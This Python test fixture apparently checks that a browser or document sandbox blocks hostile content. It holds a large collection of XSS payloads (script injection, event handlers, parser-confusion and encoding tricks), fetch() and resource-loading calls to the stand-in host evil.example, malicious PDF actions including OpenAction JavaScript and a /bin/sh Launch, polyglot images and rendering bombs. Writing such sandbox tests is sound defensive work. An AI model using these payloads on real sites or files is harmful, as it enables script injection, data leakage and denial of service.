"""Documents that try to run something, to load something, or to lead somewhere."""

# ruff: noqa: E501
from __future__ import annotations

from tests.browser.papers import pdf, picture

E = "http://evil.example"
JS = f"top.ran=1;self.ran=1;parent.ran=1;fetch('{E}/ran')"
PAGES = [
    f"<script>{JS}</script>",
    f"<script src='{E}/a.js'></script>",
    f"<script type=module>import '{E}/m.js'</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'<img src=x onerror="{JS}">',
    f'<body onload="{JS}">',
    f'<details open ontoggle="{JS}">',
    f'<input autofocus onfocus="{JS}">',
    f'<svg onload="{JS}"></svg>',
    f"<svg><script>{JS}</script></svg>",
    f"<svg><image href='{E}/s.png'/><use href='{E}/u.svg#a'/></svg>",
    f'<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject></svg>",
    f'<math><mtext></p><style><img src=x onerror="{JS}"></style></mtext></math>',
    f"<math href='{E}/math'>click</math>",
    f"<img src='{E}/i.png' srcset='{E}/i2.png 2x'>",
    f"<picture><source srcset='{E}/p.webp'><img src='{E}/p.png'></picture>",
    f"<video src='{E}/v.mp4' poster='{E}/v.png' autoplay></video>",
    f"<audio src='{E}/a.mp3' autoplay></audio>",
    f"<meta http-equiv=refresh content='0;url={E}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<base href='{E}/'><a href='next'>click</a><img src='b.png'>",
    f"<form action='{E}/form'><input name=a value=1><button style='width:300px;height:90px'>click</button></form>",
    f"<form id=f action='{E}/f2'></form><button form=f formaction='{E}/f3' style='width:300px;height:90px'>click</button>",
    f"<a href='{E}/link' style='display:block;height:200px'>click</a>",
    f"<a href='{E}/top' target=_top style='display:block;height:200px'>click</a>",
    f"<a href='{E}/blank' target=_blank style='display:block;height:200px'>click</a>",
    f"<a href='{E}/a' ping='{E}/ping' style='display:block;height:200px'>click</a>",
    f"<a href=\"javascript:{JS}\" style='display:block;height:200px'>click</a>",
    "<a href='data:text/html,<script>top.ran=1</script>' style='display:block;height:99px'>click</a>",
    f"<a download href='{E}/download' style='display:block;height:200px'>click</a>",
    f"<map name=m><area shape=rect coords='0,0,400,400' href='{E}/area'></map><img usemap='#m' width=400 height=400 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    f"<style>body{{background:url({E}/bg.png)}}@import '{E}/i.css';@font-face{{font-family:x;src:url({E}/f.woff)}}body{{font-family:x}}</style>text",
    f"<p style=\"background:url('{E}/inline.png');list-style:url({E}/l.png);content:url({E}/c.png)\">text</p>",
    f"<p style=\"background:image-set('{E}/set.png' 1x);cursor:url({E}/cur.cur),auto\">text</p>",
    f"<style>p::after{{content:url({E}/after.png)}}p:hover{{background:url({E}/hover.png)}}</style><p>text</p>",
    f"<table background='{E}/table.png'><td background='{E}/td.png'>text</td></table>",
    f"<link rel=stylesheet href='{E}/l.css'><link rel=icon href='{E}/icon.png'>",
    f"<link rel=dns-prefetch href='{E}'><link rel=preconnect href='{E}'>",
    f"<link rel=prefetch href='{E}/pf'><link rel=preload as=image href='{E}/pl'><link rel=prerender href='{E}/pr'><link rel=modulepreload href='{E}/mp'>",
    f"<link rel=manifest href='{E}/manifest'><link rel=import href='{E}/import'>",
    f"<iframe src='{E}/frame'></iframe>",
    f"<iframe srcdoc=\"<script>{JS}</script><img src='{E}/srcdoc.png'>\"></iframe>",
    f"<frameset onload=\"{JS}\"><frame src='{E}/fs'></frameset>",
    f"<object data='{E}/o'></object><embed src='{E}/e'><applet code='{E}/x'></applet>",
    f"<object data='data:text/html,<script>{JS}</script>'></object>",
    f"<template shadowrootmode=open><img src='{E}/shadow.png'><script>{JS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'></noscript>",
    f'<!--><img src=x onerror="{JS}">-->',
    f"<textarea></textarea><title></title><xmp><img src=x onerror=\"{JS}\"></xmp><plaintext><img src='{E}/plain.png'>",
    f'<style></style><img src=x onerror="{JS}"></style>',
    f"<p id=main name=getElementById></p><form name=body></form><img name=cookie src='{E}/clobber.png'>",
    f"<marquee onstart=\"{JS}\">text</marquee><isindex action='{E}/isindex'>",
    f"<?xml-stylesheet href='{E}/x.css'?><html xmlns='http://www.w3.org/1999/xhtml'><body>text</body></html>",
    f"<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='{E}/csp.png'>",
    f"<meta http-equiv=Link content='<{E}/lh.css>; rel=stylesheet'>",
    f"<dialog open><form method=dialog><button onclick=\"{JS}\" style='width:300px;height:90px'>click</button></form></dialog>",
    f"<button popovertarget=p style='width:300px;height:90px'>click</button><div id=p popover><img loading=eager src='{E}/popover.png'></div>",
    f"<p>\u202e{JS}</p><a href='\x01javascript:{JS}' style='display:block;height:99px'>click</a>",
    f"<a href=' jav&#x09;ascript:{JS}' style='display:block;height:200px'>click</a>",
]
# Bombs: little to send, much to draw. None may stop the page.
PAGES += [
    "<div>" * 20_000 + "deep" + "</div>" * 20_000,
    f"<table>{'<tr>' + '<td colspan=1000 rowspan=60000>x' * 200}</table>",
    f"<p style='width:99999999px;height:99999999px;font-size:9999px;position:fixed;inset:0;z-index:9999'>huge <a href='{E}/over'>click</a></p>",
    f"<style>*{{animation:a 1ms infinite;filter:blur(999px)}}@keyframes a{{to{{background:url({E}/keyframes.png)}}}}</style><p>text</p>",
]
TEXTS = [
    f"<script>{JS}</script><img src={E}/text.png>",
    f"</p><img src=x onerror='{JS}'>",
    f"{E}/plain",
]
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90' onload=\"{JS}\">"
    f"<script>{JS}</script><image href='{E}/img.png' width='9' height='9'/>"
    f"<style>@import '{E}/svg.css';</style><rect width='90' height='90' fill='teal'/></svg>"
)
LINK = f"<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /URI /URI ({E}/pdf-link) >> >>"
RUN = f"<< /S /JavaScript /JS (app.launchURL\\('{E}/pdf-js'\\);) >>"
FORM = f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 500] /A << /S /SubmitForm /F ({E}/pdf-form) >> >>"
FILE = "<< /Type /Filespec /F (a.html) /EF << /F 4 0 R >> >>"
HTML_IN_PDF = f"<html><body><script>{JS}</script><img src='{E}/inside.png'></body></html>"
PAPERS = [
    pdf([["runs a script when it is opened"]], catalog="/OpenAction 4 0 R", objects=[RUN]),
    pdf([["runs a script with each page"]], page="/AA << /O 4 0 R >>", objects=[RUN]),
    pdf([["a link over the whole page"]], page="/Annots [4 0 R]", objects=[LINK]),
    pdf([["a form that sends itself"]], page="/Annots [4 0 R]", objects=[FORM]),
    pdf(
        [["goes elsewhere"]],
        catalog="/OpenAction 4 0 R",
        objects=[f"<< /S /GoToR /F ({E}/other.pdf) >>"],
    ),
    pdf(
        [["starts a program"]],
        catalog="/OpenAction 4 0 R",
        objects=["<< /S /Launch /F (/bin/sh) >>"],
    ),
    pdf(
        [["has a file inside"]],
        catalog="/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
        objects=[f"<< /Length {len(HTML_IN_PDF)} >>\nstream\n{HTML_IN_PDF}\nendstream", FILE],
    ),
    pdf([[f"<script>{JS.replace('(', '').replace(')', '')}</script>"]]),
    f"%PDF-1.7 <script>{JS}</script><img src='{E}/polyglot.png'>".encode()
    + pdf([["PDF and HTML"]]),
    pdf([["x" * 3000] * 100], size="0 0 14400 14400"),
]
PICTURES = [
    ("image/gif", b"GIF89a=1;/*" + f"<script>{JS}</script>*/{JS}".encode()),
    (
        "image/png",
        picture("png", 300, 200) + f"<script>{JS}</script><img src='{E}/png.png'>".encode(),
    ),
    ("image/png", f"<html><script>{JS}</script><img src='{E}/no-png.png'></html>".encode()),
    ("image/png", picture("png", 30_000, 30_000)),
    ("image/gif", picture("gif", 2000, 2000, frames=40)),
    (
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg'><a href='{E}/svg-link'><rect width='900' height='900'/></a><foreignObject><p xmlns='http://www.w3.org/1999/xhtml' style='background:url({E}/svg-css.png)'>x</p></foreignObject></svg>".encode(),
    ),
    (
        "image/svg+xml",
        b"<svg xmlns='http://www.w3.org/2000/svg'><g id='a0'><rect width='9' height='9'/></g>"
        + b"".join(
            b"<g id='a%d'>%s</g>" % (at, b"<use href='#a%d'/>" % (at - 1) * 10)
            for at in range(1, 10)
        )
        + b"</svg>",
    ),
    ("text/html; charset=utf-7", f"+ADw-script+AD4-{JS}+ADw-/script+AD4-".encode()),
    (
        "application/xhtml+xml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{JS}</script><body xml:base='{E}/'><img src='x.png'/></body></html>".encode(),
    ),
    ("application/javascript", JS.encode()),
]

# links that cover what is shown
LINKED = [
    ("text/html", f"<a href='{E}/raw' style='display:block;height:900px'>click</a>"),
    (
        "application/xhtml+xml",
        f"<a xmlns='http://www.w3.org/1999/xhtml' href='{E}/x'>click here</a>",
    ),
    (
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg'><a href='{E}/s'><rect width='900' height='900'/></a></svg>",
    ),
    (
        "image/svg+xml",
        f"<?xml version='1.0'?><v:svg xmlns:v='http://www.w3.org/2000/svg'><v:a href='#'><v:set attributeName='href' to='{E}/p'/><v:rect width='900' height='900'/></v:a></v:svg>",
    ),
]
